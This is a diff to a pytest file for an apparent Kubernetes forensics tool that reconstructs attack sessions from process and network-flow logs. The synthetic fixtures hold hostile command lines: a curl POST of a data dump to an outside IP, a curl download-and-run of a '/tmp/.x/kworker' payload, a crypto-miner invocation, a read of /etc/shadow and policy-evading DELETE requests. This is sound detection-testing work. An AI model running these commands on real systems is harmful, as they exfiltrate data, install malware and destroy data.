@@ -100,7 +100,7 @@ def case(tmp_path_factory):
 def test_the_shell_a_service_started_is_the_session(case):
     entries = H.session_entries(case)
     top = entries.row(0, named=True)
-    assert top["exec_id"] == _id(20) and top["basis"] == "shell started by a service process, with alerts or drops below it"
+    assert top["exec_id"] == _id(20) and top["basis"] == "shell started by a service process, with alerts, drops or a payload below it"
     assert (top["alerts"], top["dropped"], top["written"]) == (1, 1, 1)
     assert _id(40) not in entries["exec_id"].to_list()  # the routine health check did nothing suspicious
 
@@ -109,7 +109,7 @@ def test_findings_name_the_pod_the_payload_and_its_flows(case):
     f = H.derive_findings(case)
     assert (f["attacker_namespace"], f["attacker_pod"], f["node"]) == ("shop", POD, NODE)
     assert f["flag_text"] == "/tmp/.x/kworker -o pool.example:3333"
-    assert "most suspicious process" in f["flag"]["reason"]
+    assert f["flag"]["reason"] == "last process of the session that acted (run from a writable directory)"
     assert f["chain"] == [_id(20), _id(30)]
     assert [(r["dst_port"], r["verdict"]) for r in f["attack_flows"]] == [(80, "FORWARDED")]
     assert [(r["dst_port"], r["verdict"]) for r in f["dropped_flows"]] == [(3333, "DROPPED")]
@@ -217,4 +217,98 @@ def test_ordinary_life_is_not_an_attack(tmp_path):
     assert "did nothing suspicious" in f["notes"][0] and "an administrator's?" in f["notes"][0]
     entries = H.session_entries(c_)
     assert entries["exec_id"].to_list() == [_id(50)] and entries["quiet"].to_list() == [True]
+    c_.close()
+
+
+SHIM = {"exec_id": _id(2), "pid": 2, "binary": "/usr/bin/containerd-shim-runc-v2", "arguments": "-id x"}
+
+
+def _ref(p: dict) -> dict:
+    return {k: p[k] for k in ("exec_id", "pid", "binary", "arguments", "start_time", "flags")}
+
+
+def _run(pid: int, parent: dict, binary: str, args: str, t: str, *, init: bool = False) -> tuple[dict, str]:
+    p = _proc(pid, parent["pid"], binary, args, t, init=init)
+    return p, json.dumps({"process_exec": {"process": p, "parent": parent}, "node_name": NODE, "time": t})
+
+
+def _sighting(sport: int, daddr: str, dport: int, verdict: str, t: str, node: str = NODE, dst_pod: str | None = None,
+              method: str | None = None) -> str:
+    line = json.loads(_flow(sport, daddr, dport, verdict, t))
+    f = line["flow"]
+    f["node_name"] = line["node_name"] = node
+    f["traffic_direction"] = "EGRESS" if node == NODE else "INGRESS"
+    if dst_pod:
+        f["destination"] = {"namespace": "shop", "pod_name": dst_pod, "labels": ["k8s:app=db"]}
+    if method:
+        f |= {"Type": "L7", "l7": {"type": "REQUEST", "http": {"method": method, "url": f"http://{daddr}/v1/all"}}}
+    return json.dumps(line)
+
+
+def test_a_connection_dropped_on_its_other_node_did_not_get_through_and_the_exfiltration_is_key(tmp_path):
+    # kubectl exec -> sh -> /tmp/.x/pscan (let out by its node, dropped by the destination's) ->
+    # curl POST to an address outside the cluster (after the scan tool: the last that acted)
+    sh, a = _run(50, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
+    scan, b = _run(51, _ref(sh), "/tmp/.x/pscan", "10.0.5.5", "2026-03-01T10:00:01Z")
+    curl, c = _run(52, _ref(sh), "/usr/bin/curl", "-X POST --data-binary @dump https://203.0.113.50/up",
+                   "2026-03-01T10:00:05Z")
+    lines = [a, b, c,
+             _connect(scan, _ref(sh), 40001, "10.0.5.5", 22, "2026-03-01T10:00:01.1Z"),
+             _sighting(40001, "10.0.5.5", 22, "FORWARDED", "2026-03-01T10:00:01.101Z", dst_pod="db-0"),
+             _sighting(40001, "10.0.5.5", 22, "DROPPED", "2026-03-01T10:00:01.102Z", node="worker-9", dst_pod="db-0"),
+             _connect(curl, _ref(sh), 40002, "203.0.113.50", 443, "2026-03-01T10:00:05.1Z"),
+             _sighting(40002, "203.0.113.50", 443, "FORWARDED", "2026-03-01T10:00:05.101Z")]
+    c_ = _case(tmp_path, lines)
+    f = H.derive_findings(c_)
+    assert f["flag_text"] == curl["binary"] + " " + curl["arguments"]
+    assert f["flag"]["reason"] == "last process of the session that acted (a connection that got through with an effect)"
+    assert [(r["dst_port"], r["verdict"]) for r in f["attack_flows"]] == [(443, "FORWARDED")]
+    assert [(r["dst_port"], r["verdict"], r["node"]) for r in f["dropped_flows"]] == [(22, "DROPPED", "worker-9")]
+    edges = [(r["to"], r["verdict"]) for r in kn.viz.flow_chart(c_).to_dict()["layer"][1]["data"]["values"]]
+    assert ("shop/db", "DROPPED") in edges and ("shop/db", "FORWARDED") not in edges
+    c_.close()
+
+
+def test_a_way_around_a_policy_is_key_and_a_one_off_exec_is_found_beside_a_quiet_shell(tmp_path):
+    # an administrator's shell that only listed files, and a one-off `kubectl exec -- bash -c ...`
+    # whose DELETE was refused, then sent to another port of the same pod, where it got through
+    admin, a = _run(60, SHIM, "/bin/sh", "", "2026-03-01T09:00:00Z")
+    _, b = _run(61, _ref(admin), "/bin/ls", "/etc", "2026-03-01T09:00:01Z")
+    one, c = _run(70, SHIM, "/bin/bash", "-c 'wget --method=DELETE http://db/v1/all; curl -X DELETE db:8081/v1/all'",
+                  "2026-03-01T10:00:00Z")
+    wget, d = _run(71, _ref(one), "/usr/bin/wget", "--method=DELETE http://db/v1/all", "2026-03-01T10:00:00.1Z")
+    curl, e = _run(72, _ref(one), "/usr/bin/curl", "-X DELETE db:8081/v1/all", "2026-03-01T10:00:01Z")
+    lines = [a, b, c, d, e,
+             _connect(wget, _ref(one), 41001, "10.0.5.5", 80, "2026-03-01T10:00:00.2Z"),
+             _sighting(41001, "10.0.5.5", 80, "DROPPED", "2026-03-01T10:00:00.201Z", dst_pod="db-0", method="DELETE"),
+             _connect(curl, _ref(one), 41002, "10.0.5.5", 8081, "2026-03-01T10:00:01.1Z"),
+             _sighting(41002, "10.0.5.5", 8081, "FORWARDED", "2026-03-01T10:00:01.101Z", dst_pod="db-0")]
+    c_ = _case(tmp_path, lines)
+    f = H.derive_findings(c_)
+    assert (f["basis"], f["entry"]["exec_id"]) == ("rare command outside the init tree", _id(70))
+    assert f["flag_text"] == "/usr/bin/curl -X DELETE db:8081/v1/all"
+    assert any("did nothing suspicious" in n for n in f["notes"])  # the administrator's shell
+    c_.close()
+
+
+def test_a_payload_a_service_started_is_found_from_its_hooks_alone(tmp_path):
+    # Tetragon only: python3 (the service) -> sh -c -> /tmp/.x/kworker reads /etc/shadow and connects
+    # out of the cluster; the same service's pip build runs binaries from /tmp too, and is left alone
+    server, a = _run(10, {"exec_id": _id(1), "pid": 1}, "/usr/local/bin/python3", "-m jupyter", "2026-03-01T08:00:00Z",
+                     init=True)
+    sh, b = _run(20, _ref(server), "/bin/sh", "-c 'curl -so /tmp/.x/kworker http://198.51.100.23/k; /tmp/.x/kworker'",
+                 "2026-03-01T10:00:00Z", init=True)
+    payload, c = _run(21, _ref(sh), "/tmp/.x/kworker", "", "2026-03-01T10:00:02Z", init=True)
+    pip_sh, d = _run(30, _ref(server), "/bin/sh", "-c 'pip install xgboost'", "2026-03-01T09:00:00Z", init=True)
+    _, e = _run(31, _ref(pip_sh), "/tmp/pip-build-env-1/bin/ninja", "-C build", "2026-03-01T09:00:05Z", init=True)
+    shadow = json.dumps({"process_kprobe": {"process": payload, "parent": _ref(sh), "function_name": "security_file_permission",
+                                            "args": [{"file_arg": {"path": "/etc/shadow"}}, {"int_arg": 4}]},
+                         "node_name": NODE, "time": "2026-03-01T10:00:02.5Z"})
+    lines = [a, b, c, d, e, shadow, _connect(payload, _ref(sh), 42000, "198.51.100.23", 443, "2026-03-01T10:00:03Z")]
+    c_ = _case(tmp_path, lines)
+    entries = H.session_entries(c_)
+    assert entries["exec_id"].to_list() == [_id(20)]
+    assert entries.select("sensitive", "outside").row(0) == (1, 1)
+    f = H.derive_findings(c_)
+    assert (f["attacker_pod"], f["flag_text"], f["chain_text"]) == (POD, "/tmp/.x/kworker", "sh → kworker")
     c_.close()
